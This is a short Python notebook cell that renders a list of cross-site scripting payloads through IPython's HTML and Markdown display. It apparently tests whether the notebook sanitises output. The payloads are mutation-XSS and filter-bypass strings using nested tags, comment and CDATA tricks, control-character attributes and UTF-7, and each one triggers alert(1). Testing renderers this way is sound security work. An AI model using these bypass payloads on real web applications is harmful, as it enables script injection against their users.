# %% first
from IPython.display import HTML, Markdown, display
texts = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<textarea><p title='</textarea><svg onload=alert(1)>'>", "<a\x0bhref='x'\x0conclick=alert(1)>x",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<img src='x' onerror\x00='alert(1)'>",
    "<select><template><img src=x onerror=alert(1)></template>", "+ADw-script+AD4-alert(1)",
]
for text in texts:
    display(HTML(text), Markdown(text))
